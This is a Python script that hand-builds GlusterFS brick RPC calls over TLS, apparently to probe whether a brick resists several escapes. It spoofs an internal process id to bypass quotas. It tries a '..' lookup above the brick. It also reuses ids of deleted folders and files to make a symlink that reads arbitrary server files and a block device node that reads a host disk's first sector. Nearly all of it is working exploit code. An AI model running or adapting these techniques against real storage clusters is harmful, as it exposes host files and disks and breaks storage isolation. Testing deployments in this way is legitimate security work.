"""A client of a GlusterFS brick that says what no client of GlusterFS would: its protocol, by hand.

ONC RPC (RFC 5531) over TLS, and the calls of rpc/xdr/src/glusterfs3-xdr.x and rpc/rpc-lib/src/protocol-common.h of
GlusterFS 10. Standard library only: it runs in the network of any node.
"""

from __future__ import annotations

import os
import socket
import ssl
import struct
import sys
import uuid
from collections.abc import Callable

Pairs = dict[str, bytes]
HANDSHAKE, FOPS, AUTH_GLUSTERFS_V3 = (14398633, 2), (1298437, 330), 390039
MKNOD, MKDIR, UNLINK, RMDIR, SYMLINK, OPEN, READ, OPENDIR, CREATE, LOOKUP = 3, 4, 5, 6, 7, 11, 12, 20, 23, 27
ROOT, NONE = bytes(15) + b"\1", bytes(16)
INTERNAL = (1 << 32) - 1  # the process id of what GlusterFS does by itself: no quota holds it up
ANONYMOUS = -2  # in place of an open file
OWN: Pairs = {"glusterfs-internal-fop": b"yes\0"}
CONTENT: Pairs = {"glusterfs.content": b"4096\0"}


def opaque(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)


def pairs(of: Pairs) -> bytes:
    found = struct.pack(">I", len(of))
    for key, value in of.items():
        found += struct.pack(">II", len(key), len(value)) + key.encode() + b"\0" + value
    return opaque(found)


class Refused(Exception):
    """The brick says no, with this number."""


class Brick:
    """Lets in by the certificate at `own` (a path without its ending)."""

    def __init__(self, host: str, port: int, path: str, own: str, authority: str) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.load_verify_locations(authority)
        context.load_cert_chain(f"{own}.crt", f"{own}.key")
        self._stream = context.wrap_socket(socket.create_connection((host, port), 5))
        self._stream.settimeout(20)
        self._number = 0
        words = {
            "remote-subvolume": path,
            "process-uuid": f"CTX_ID:{uuid.uuid4()}-GRAPH_ID:0-PID:1-HOST:w-PC_NAME:atoll-client-0-RECON_NO:-0",
            "process-name": "mount",
            "fops-version": "1298437",
            "mgmt-version": "1238433",
            "opversion": "100000",
            "client-version": "10.3",
            "clnt-lk-version": "1",
        }
        self.call(HANDSHAKE, 1, pairs({key: value.encode() + b"\0" for key, value in words.items()}))
        self.lookup(NONE, "", {}, itself=ROOT)

    def _read(self, count: int) -> bytes:
        found = b""
        while len(found) < count:
            more = self._stream.recv(count - len(found))
            if not more:
                raise Refused("hung up")
            found += more
        return found

    def call(self, program: tuple[int, int], procedure: int, body: bytes) -> bytes:
        """Return what stands behind result and error of the answer."""
        self._number += 1
        who = struct.pack(">IIII", INTERNAL, 0, 0, 0) + opaque(b"\1" * 8)
        head = struct.pack(">6I", self._number, 0, 2, *program, procedure)
        said = head + struct.pack(">II", AUTH_GLUSTERFS_V3, len(who)) + who + struct.pack(">II", 0, 0) + body
        self._stream.sendall(struct.pack(">I", 1 << 31 | len(said)) + said)
        while True:
            (length,) = struct.unpack(">I", self._read(4))
            answer = self._read(length & ~(1 << 31))
            number, kind = struct.unpack(">II", answer[:8])
            if (number, kind) == (self._number, 1):  # the others are calls of the brick
                break
        accepted, result, error = struct.unpack(">iii", answer[20:32])
        if accepted or result < 0:
            raise Refused(os.strerror(error) if not accepted else f"not accepted: {accepted}")
        return answer[32:]

    def lookup(self, parent: bytes, name: str, asked: Pairs, itself: bytes = NONE) -> bytes:
        return self.call(FOPS, LOOKUP, itself + parent + bytes(4) + opaque(name.encode()) + pairs(asked))

    def create(self, name: str) -> bytes:
        own = uuid.uuid4().bytes
        head = ROOT + struct.pack(">III", os.O_RDWR | os.O_CREAT, 0o644, 0)
        self.call(FOPS, CREATE, head + opaque(name.encode()) + pairs({**OWN, "gfid-req": own}))
        self.lookup(ROOT, name, {"gfid-req": own})
        return own

    def mkdir(self, name: str) -> bytes:
        own = uuid.uuid4().bytes
        head = ROOT + struct.pack(">II", 0o755, 0)
        self.call(FOPS, MKDIR, head + opaque(name.encode()) + pairs({**OWN, "gfid-req": own}))
        self.lookup(ROOT, name, {"gfid-req": own})
        self.call(FOPS, OPENDIR, own + pairs({}))
        return own

    def remove(self, procedure: int, name: str) -> None:
        words = [opaque(name.encode()), bytes(4)]
        if procedure == RMDIR:
            words.reverse()
        self.call(FOPS, procedure, ROOT + b"".join(words) + pairs(OWN))

    def comes_and_goes(self) -> None:
        """Make a file, and remove it."""
        name = uuid.uuid4().hex
        self.create(name)
        self.remove(UNLINK, name)

    def climbs(self) -> None:
        """Look up the folder above the brick's: GlusterFS refuses `/` in names, and not `..`."""
        self.lookup(ROOT, "..", {**OWN, "gfid-req": uuid.uuid4().bytes})

    def reads_by_a_symlink(self, place: str) -> bytes:
        """Return a file of the server's, by a symlink that has the id of a folder which the brick still knows."""
        folder, name, link = (uuid.uuid4().hex for _ in range(3))
        own = self.mkdir(folder)
        self.remove(RMDIR, folder)
        above, _, name = place.rpartition("/")
        self.call(
            FOPS, SYMLINK, ROOT + opaque(link.encode()) + bytes(4) + opaque(above.encode()) + pairs({"gfid-req": own})
        )
        try:
            return self.lookup(own, name, {"gfidless-lookup": b"1\0", **CONTENT})
        finally:
            self.remove(UNLINK, link)

    def reads_a_device(self, device: int) -> bytes:
        """Return the first sector of a disk, by a device that has the id of a file which the brick still knows."""
        file, node = (uuid.uuid4().hex for _ in range(2))
        own = self.create(file)
        self.remove(UNLINK, file)
        head = ROOT + struct.pack(">QII", device, 0o060600, 0)
        self.call(FOPS, MKNOD, head + opaque(node.encode()) + pairs({"gfid-req": own}))
        try:
            return self.call(FOPS, READ, own + struct.pack(">qQII", ANONYMOUS, 0, 512, 0) + pairs({}))
        finally:
            self.remove(UNLINK, node)


def main(host: str, port: str, path: str, own: str, authority: str, device: str, *places: str) -> None:
    """Try all of it; print a line for each: what, and how it went."""
    brick = Brick(host, int(port), path, own, authority)
    ways: dict[str, Callable[[], object]] = {
        "a file of the volume": brick.comes_and_goes,
        "the folder above": brick.climbs,
        "a device": lambda: brick.reads_a_device(int(device)),
    }
    ways |= {place: lambda place=place: brick.reads_by_a_symlink(place) for place in places}  # type: ignore[misc]
    for what, way in ways.items():
        try:
            way()
        except Refused as refused:
            print(f"{what}\trefused: {refused}")
        else:
            print(f"{what}\tdone")


if __name__ == "__main__":
    main(*sys.argv[1:])
